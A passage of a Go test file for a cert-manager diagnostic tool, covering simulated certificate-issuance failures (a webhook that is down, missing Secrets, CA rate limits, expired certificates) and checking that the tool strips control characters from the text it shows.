			upToRequest(t, s).Status.Conditions[1] = cmapi.CertificateRequestCondition{Type: cmapi.CertificateRequestConditionReady, Status: cmmeta.ConditionTrue, Reason: "Issued"}
			s.add(&corev1.Event{
				ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "www.3"}, Type: "Warning", Message: `JKS keystore password Secret "jks" not found`,
				InvolvedObject: corev1.ObjectReference{Kind: "Certificate", Name: "www", UID: "www"}, LastTimestamp: metav1.NewTime(noon),
			})
		}, Stuck, []string{"keystore-password-missing"}},
		"a webhook keeps cert-manager from writing": {"", func(t *testing.T, s *scene) {
			upToRequest(t, s)
			remove[*cmapi.CertificateRequest](s, "www-1")
			s.refuses = errors.New(`Internal error occurred: failed calling webhook "webhook.cert-manager.io": failed to call webhook: connection refused`)
		}, Stuck, []string{"cert-manager-webhook-down"}},
		"the order may not make its Challenge": {"", func(t *testing.T, s *scene) {
			upToOrder(t, s).CreationTimestamp = metav1.NewTime(noon.Add(-time.Minute))
			s.objects = slices.DeleteFunc(s.objects, func(o client.Object) bool { return isEvent(o) })
		}, Stuck, []string{"nothing-happens"}},
		"its name has a slip in it": {"", func(t *testing.T, s *scene) {
			certificate(t, s).Name = "wwww"
		}, Stuck, []string{"object-missing"}},
		"nothing says why": {"", func(*testing.T, *scene) {}, Stuck, []string{"unknown"}},
		"it waits for its record, and is young": {
			`Waiting for DNS-01 challenge propagation: DNS record for "www.example.com" not yet propagated`,
			func(t *testing.T, s *scene) {
				c := challenge(t, s)
				c.Status.Presented, c.CreationTimestamp = true, metav1.NewTime(noon.Add(-time.Minute))
			}, Issuing, nil,
		},
		"it has waited for its record for long": {
			`Waiting for DNS-01 challenge propagation: DNS record for "www.example.com" not yet propagated`,
			func(t *testing.T, s *scene) { challenge(t, s).Status.Presented = true }, Stuck,
			[]string{"record-not-visible"},
		},
		"it is held back for the CA's memory": {holding, func(t *testing.T, s *scene) {
			find[*corev1.Event](t, s, "www.1").FirstTimestamp = metav1.NewTime(noon.Add(-2 * time.Minute))
		}, Issuing, nil},
		"it is held back for ever": {holding, func(t *testing.T, s *scene) {
			find[*corev1.Event](t, s, "www.1").FirstTimestamp = metav1.NewTime(noon.Add(-4 * time.Minute))
		}, Stuck, []string{"ca-may-remember"}},
		"it is held back, and nobody knows since when": {holding, func(_ *testing.T, s *scene) {
			s.forbidden = []string{"events"}
		}, Stuck, []string{"ca-may-remember"}},
		"the CA remembered the value of the wildcard": {refusedValue, func(t *testing.T, s *scene) {
			s.rival(t, acmev1.Valid)
		}, Stuck, []string{"ca-remembers-first"}},
		"the CA saw no value at all": {refusedValue, func(t *testing.T, s *scene) {
			s.rival(t, acmev1.Pending).CreationTimestamp = metav1.NewTime(noon)
		}, Stuck, []string{"validation-failed"}},
		"the cloud throttles":        {presenting + "too many calls to Alidns (Throttling.User)", func(*testing.T, *scene) {}, Stuck, []string{"cloud-throttles"}},
		"the Secret is not there":    {missingSecret, func(_ *testing.T, s *scene) { remove[*corev1.Secret](s, "alidns") }, Stuck, []string{"secret-missing"}},
		"the user may see no Secret": {missingSecret, func(_ *testing.T, s *scene) { s.forbidden = []string{"secrets"} }, Stuck, []string{"secret-missing"}},
		"the solver is away": {"the server is currently unable to handle the request (post alidns.acme.certyun.internal)", func(t *testing.T, s *scene) {
			find[*appsv1.Deployment](t, s, "certyun-solver").Status.ReadyReplicas = 0
		}, Stuck, []string{"solver-not-running"}},
		"the Issuer was corrected since": {refusal("alidns", "acme.certyun.local"), func(t *testing.T, s *scene) {
			challenge(t, s).Spec.Solver.DNS01.Webhook.GroupName = "acme.certyun.local"
		}, Stuck, []string{"challenge-outdated", "caller-not-allowed"}},
		"it waits behind another challenge": {"", func(t *testing.T, s *scene) {
			c := challenge(t, s)
			c.Status.Processing = false
			other := c.DeepCopy()
			other.Namespace, other.UID, other.Status.Processing = "other", "other", true
			s.add(other)
			s.objects = slices.DeleteFunc(s.objects, func(o client.Object) bool { return isEvent(o) })
		}, Stuck, []string{"challenge-queued"}},
		"the wildcard has only HTTP-01": {"", func(t *testing.T, s *scene) {
			issuer := find[*cmapi.Issuer](t, s, "le")
			issuer.Spec.ACME.Solvers[0] = acmev1.ACMEChallengeSolver{HTTP01: &acmev1.ACMEChallengeSolverHTTP01{Ingress: &acmev1.ACMEChallengeSolverHTTP01Ingress{}}}
			order := upToOrder(t, s)
			order.Status.Authorizations[0].Wildcard = new(true)
			order.Status.Authorizations[0].Challenges = []acmev1.ACMEChallenge{{Type: "dns-01"}}
			certificate(t, s).Spec.DNSNames = []string{"*.www.example.com"}
		}, Stuck, []string{"no-solver-matches"}},
		"the CA limits the rate": {"", func(t *testing.T, s *scene) {
			order := upToOrder(t, s)
			order.Status.State, order.Status.Reason = acmev1.Errored, "Failed to create Order: 429 urn:ietf:params:acme:error:rateLimited: too many certificates"
		}, Stuck, []string{"acme-refused"}},
		"the order stays new": {"", func(t *testing.T, s *scene) {
			upToOrder(t, s).Status = acmev1.OrderStatus{}
			s.objects = slices.DeleteFunc(s.objects, func(o client.Object) bool { return isEvent(o) })
		}, Stuck, []string{"nothing-happens"}},
		"the request is denied": {"", func(t *testing.T, s *scene) {
			upToRequest(t, s).Status.Conditions = []cmapi.CertificateRequestCondition{{Type: cmapi.CertificateRequestConditionDenied, Status: cmmeta.ConditionTrue, Message: "no policy"}}
		}, Stuck, []string{"request-denied"}},
		"the request is not approved": {"", func(t *testing.T, s *scene) {
			upToRequest(t, s).Status.Conditions = nil
		}, Stuck, []string{"request-not-approved"}},
		"the request says something": {"", func(t *testing.T, s *scene) {
			upToRequest(t, s).Status.Conditions[1].Message = "Failed to decode CSR in spec.request"
		}, Stuck, []string{"unknown"}},
		"there is no request": {"", func(t *testing.T, s *scene) {
			upToRequest(t, s)
			remove[*cmapi.CertificateRequest](s, "www-1")
		}, Stuck, []string{"nothing-happens"}},
		"the issuer's group has a slip in it": {"", func(t *testing.T, s *scene) {
			upToRequest(t, s).Status.Conditions = s.onlyApproved()
			certificate(t, s).Spec.IssuerRef.Group = "certmanager.io"
		}, Stuck, []string{"rule-broken"}},
		"the Certificate is of this moment": {"", func(t *testing.T, s *scene) {
			upToRequest(t, s)
			remove[*cmapi.CertificateRequest](s, "www-1")
			certificate(t, s).CreationTimestamp = metav1.NewTime(noon)
		}, Issuing, nil},
		"the Issuer is not there": {"", func(t *testing.T, s *scene) {
			upToRequest(t, s)
			remove[*cmapi.CertificateRequest](s, "www-1")
			certificate(t, s).Spec.IssuerRef.Name = "lets"
		}, Stuck, []string{"object-missing"}},
		"cert-manager does not run": {"", func(t *testing.T, s *scene) {
			upToRequest(t, s)
			remove[*cmapi.CertificateRequest](s, "www-1")
			find[*appsv1.Deployment](t, s, "cert-manager-controller").Status.ReadyReplicas = 0
		}, Stuck, []string{"cert-manager-not-running"}},
		"the namespace is being deleted": {"", func(t *testing.T, s *scene) {
			namespace := find[*corev1.Namespace](t, s, "shop")
			namespace.DeletionTimestamp, namespace.Finalizers = new(metav1.NewTime(noon)), []string{"kubernetes"}
			upToRequest(t, s)
		}, Stuck, []string{"namespace-vanishing", "unknown"}},
		"the Certificate is not there": {"", func(_ *testing.T, s *scene) {
			remove[*cmapi.Certificate](s, "www")
		}, Stuck, []string{"object-missing"}},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := healthy(t)
			s.issuance(t, test.reason)
			test.damage(t, s)
			found, err := s.doctor(t).Certificate(t.Context(), "shop", "www")
			if err != nil {
				t.Fatal(err)
			}
			checkFilled(t, found)
			if diff := cmp.Diff(test.causes, ids(found.Causes)); diff != "" {
				t.Errorf("causes (-want +got):\n%s\n%v", diff, found.Causes)
			}
			if found.State != test.state {
				t.Errorf("state %s, want %s", found.State, test.state)
			}
		})
	}
}

// TestReady is about what threatens a Certificate that is there.
func TestReady(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		damage           func(*testing.T, *scene)
		state            State
		causes, warnings []string
	}{
		"nothing":                     {func(*testing.T, *scene) {}, Ready, nil, nil},
		"the solver's Secret is gone": {func(_ *testing.T, s *scene) { remove[*corev1.Secret](s, "alidns") }, Ready, nil, []string{"secret-missing"}},
		"its own Secret is gone":      {func(_ *testing.T, s *scene) { remove[*corev1.Secret](s, "www-tls") }, Stuck, []string{"renewal-overdue"}, nil},
		"it has expired": {func(t *testing.T, s *scene) {
			past := metav1.NewTime(noon.Add(-time.Hour))
			find[*cmapi.Certificate](t, s, "www").Status.NotAfter = &past
		}, Stuck, []string{"renewal-overdue"}, nil},
		"its renewal is late": {func(t *testing.T, s *scene) {
			past := metav1.NewTime(noon.Add(-time.Hour))
			find[*cmapi.Certificate](t, s, "www").Status.RenewalTime = &past
		}, Stuck, []string{"renewal-overdue"}, nil},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := healthy(t)
			s.ready(t)
			test.damage(t, s)
			found, err := s.doctor(t).Certificate(t.Context(), "shop", "www")
			if err != nil {
				t.Fatal(err)
			}
			checkFilled(t, found)
			if diff := cmp.Diff([][]string{test.causes, test.warnings}, [][]string{ids(found.Causes), ids(found.Warnings)}); diff != "" {
				t.Errorf("causes and warnings (-want +got):\n%s", diff)
			}
			if found.State != test.state {
				t.Errorf("state %s, want %s", found.State, test.state)
			}
		})
	}
}

// onlyApproved are the conditions of a CertificateRequest that nobody works on.
func (s *scene) onlyApproved() []cmapi.CertificateRequestCondition {
	return []cmapi.CertificateRequestCondition{{Type: cmapi.CertificateRequestConditionApproved, Status: cmmeta.ConditionTrue}}
}

func isEvent(object any) bool {
	_, ok := object.(*corev1.Event)
	return ok
}

// TestVisible shows what somebody wrote into an object without letting a terminal act upon it.
func TestVisible(t *testing.T) {
	t.Parallel()
	s := healthy(t)
	s.issuance(t, "first line\nsecond \x1b[31mline\u202e with a \x00 zero and a "+strings.Repeat("long ", 100)+"end")
	found, err := s.doctor(t).Certificate(t.Context(), "shop", "www")
	if err != nil {
		t.Fatal(err)
	}
	var text bytes.Buffer
	if err := found.WriteText(&text, noon); err != nil {
		t.Fatal(err)
	}
	for _, r := range text.String() {
		if r != '\n' && !unicode.IsGraphic(r) {
			t.Fatalf("the text has the character %U:\n%s", r, text.String())
		}
	}
	for line := range strings.Lines(text.String()) {
		if commandOrName := strings.Contains(line, "Next:") || strings.Contains(line, "More:") || strings.Contains(line, "(DNS-01 for"); len([]rune(line)) > width+1 && !commandOrName {
			t.Errorf("a line of %d characters: %s", len([]rune(line)), line)
		}
	}
}

// TestManyIssuers names all that show the same, up to a bound.
func TestManyIssuers(t *testing.T) {
	t.Parallel()
	s := healthy(t)
	for i := range maxListed + 5 {
		issuer := testIssuer("shop", fmt.Sprintf("i%02d", i), `{"accessKeyIdRef":{"name":"alidns","key":"id"},"accessKeySecretRef":{"name":"alidns","key":"secret"}}`)
		issuer.Spec.ACME.Solvers[0].DNS01.Webhook.GroupName = "acme.two.internal"
		s.add(issuer)
	}
	found, err := s.doctor(t).Installation(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if got := ids(found.Causes); !slices.Equal(got, []string{"group-not-served"}) {
		t.Fatalf("causes %v", got)
	}
	if n := len(found.Causes[0].Objects); n != maxListed {
		t.Errorf("%d objects, want %d", n, maxListed)
	}
	if names := found.Causes[0].names(); !strings.Contains(names, "Issuer shop/i19 and 5 more") {
		t.Errorf("names: %s", names)
	}
}
